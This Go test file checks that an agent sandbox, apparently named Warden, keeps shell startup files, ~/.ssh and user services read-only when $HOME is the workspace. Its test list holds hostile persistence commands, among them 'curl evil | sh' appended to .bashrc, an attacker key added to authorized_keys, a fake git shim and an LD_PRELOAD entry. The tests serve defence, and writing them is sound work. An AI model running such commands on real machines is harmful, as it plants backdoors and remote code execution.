package main

import (
	"io/fs"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

// With the workspace at $HOME, the files the host later runs without asking
// (shell rc files, ~/.ssh, user services) stay read-only; the rest of HOME
// stays writable, and missing ones the command makes are moved away.

// listTree lists every path under dir, relative, with its mode and
// contents, but Warden's own state (the audit log of the runs) and caches.
func listTree(t *testing.T, dir string) []string {
	t.Helper()
	var out []string
	filepath.WalkDir(dir, func(p string, d fs.DirEntry, err error) error {
		if err != nil || p == dir {
			return nil
		}
		rel, _ := filepath.Rel(dir, p)
		if strings.HasPrefix(rel, filepath.Join(".local", "state")) || rel == ".local" ||
			strings.HasPrefix(rel, filepath.Join(".cache", "warden")) || rel == ".cache" {
			return nil
		}
		info, _ := d.Info()
		entry := rel + " " + d.Type().String()
		if info != nil && d.Type().IsRegular() {
			entry += " " + info.Mode().String()
			b, _ := os.ReadFile(p)
			entry += " " + string(b)
		}
		out = append(out, entry)
		return nil
	})
	return out
}

func TestProtectedStartupFilesInHomeWorkspace(t *testing.T) {
	home := t.TempDir()
	// A lived-in home: some startup files exist, others do not yet.
	os.MkdirAll(filepath.Join(home, ".ssh"), 0o700)
	os.WriteFile(filepath.Join(home, ".ssh", "known_hosts"), []byte("host key\n"), 0o600)
	os.WriteFile(filepath.Join(home, ".bashrc"), []byte("# mine\n"), 0o644)
	os.MkdirAll(filepath.Join(home, ".config", "fish"), 0o755)
	os.MkdirAll(filepath.Join(home, "project"), 0o755)
	env := homeEnv(home)
	before := listTree(t, home)

	for _, attack := range []string{
		`echo 'curl evil | sh' >> .bashrc`,
		`echo 'curl evil | sh' > .zshenv`,
		`echo 'curl evil | sh' > .profile`,
		`echo 'ssh-ed25519 AAAA attacker' >> .ssh/authorized_keys`,
		`printf 'Host *\n  ProxyCommand sh -c id\n' > .ssh/config`,
		`mv .ssh .ssh.old`,
		`rm .bashrc`,
		`mkdir -p .config/systemd/user && echo '[Service]' > .config/systemd/user/x.service`,
		`mkdir -p .config/autostart && echo x > .config/autostart/x.desktop`,
		`echo 'id' > .config/fish/config.fish`,
		`mkdir -p .local/bin && printf '#!/bin/sh\nid\n' > .local/bin/git`,
		`echo 'LD_PRELOAD=/x.so' > .pam_environment`,
	} {
		// --yes: whatever the approval layer asks is approved, so what
		// stops the attack is the sandbox.
		// A missing one may be made inside; it is moved away and reported.
		_, errOut, code := wardenIn(t, env, "exec", "--sandbox", "workspace-write", "--yes", "--cwd", home, "--", "sh", "-c", attack)
		undone := strings.Contains(errOut, " it created: protected path; kept at "+filepath.Join(home, ".local", "state", "warden", "quarantine"))
		if !undone && (code == 0 || !denied(errOut) && !strings.Contains(errOut, "busy") && !strings.Contains(errOut, "Is a directory")) {
			t.Errorf("attack %q: exit %d %s", attack, code, errOut)
		}
	}
	// Nothing is left: ~/.config is read-only in a home workspace, as every
	// dot-entry at the top of home (home.go), so not even a parent is made.
	slices.Sort(before)
	now := listTree(t, home)
	slices.Sort(now)
	if !slices.Equal(now, before) {
		t.Errorf("HOME changed by the attacks (or something left behind):\nbefore %q\nafter  %q", before, now)
	}

	// Twins: the rest of HOME is the workspace, writable as before.
	_, errOut, code := wardenIn(t, env, "exec", "--sandbox", "workspace-write", "--deny", "--cwd", home, "--", "sh", "-c",
		`echo n > notes.txt && mkdir -p other && echo x > other/x && echo y > project/main.go && cat .bashrc >/dev/null`)
	if code != 0 {
		t.Fatalf("twin: writing HOME beside the startup files: exit %d %s", code, errOut)
	}
	want := append(slices.Clone(before), "other d---------", "other/x ---------- -rw-r--r-- x\n", "notes.txt ---------- -rw-r--r-- n\n", "project/main.go ---------- -rw-r--r-- y\n")
	slices.Sort(want)
	now = listTree(t, home)
	slices.Sort(now)
	if !slices.Equal(now, want) {
		t.Errorf("HOME after the twin:\nhave %q\nwant %q", now, want)
	}
}

// A user who opens a startup directory itself as the workspace (~/.config/nvim,
// ~/bin) asked the agent to work there: it is writable, not refused. Twin:
// with the workspace at $HOME the same file stays read-only, and Warden's own
// config directory as the workspace is still refused.
func TestProtectedStartupDirectoryOpenedAsWorkspace(t *testing.T) {
	home := t.TempDir()
	nvim := filepath.Join(home, ".config", "nvim")
	os.MkdirAll(nvim, 0o755)
	os.WriteFile(filepath.Join(nvim, "init.lua"), []byte("-- mine\n"), 0o644)
	env := homeEnv(home)

	_, errOut, code := wardenIn(t, env, "exec", "--sandbox", "workspace-write", "--deny", "--cwd", nvim, "--", "sh", "-c", `echo 'vim.o.number = true' >> init.lua`)
	if code != 0 {
		t.Fatalf("workspace ~/.config/nvim: exit %d %s", code, errOut)
	}
	if b, _ := os.ReadFile(filepath.Join(nvim, "init.lua")); !strings.Contains(string(b), "vim.o.number") {
		t.Errorf("init.lua not edited in its own workspace: %q", b)
	}

	_, errOut, code = wardenIn(t, env, "exec", "--sandbox", "workspace-write", "--deny", "--cwd", home, "--", "sh", "-c", `echo 'os.execute("id")' >> .config/nvim/init.lua`)
	if code == 0 {
		t.Errorf("workspace $HOME: ~/.config/nvim/init.lua was writable: %s", errOut)
	}
	if b, _ := os.ReadFile(filepath.Join(nvim, "init.lua")); strings.Contains(string(b), "os.execute") {
		t.Errorf("init.lua changed from a $HOME workspace: %q", b)
	}

	wardenDir := filepath.Join(home, ".config", "warden")
	os.MkdirAll(wardenDir, 0o700)
	_, errOut, code = wardenIn(t, env, "exec", "--sandbox", "workspace-write", "--deny", "--cwd", wardenDir, "--", "true")
	if code == 0 {
		t.Errorf("Warden's own config directory as the workspace ran: %s", errOut)
	}
}
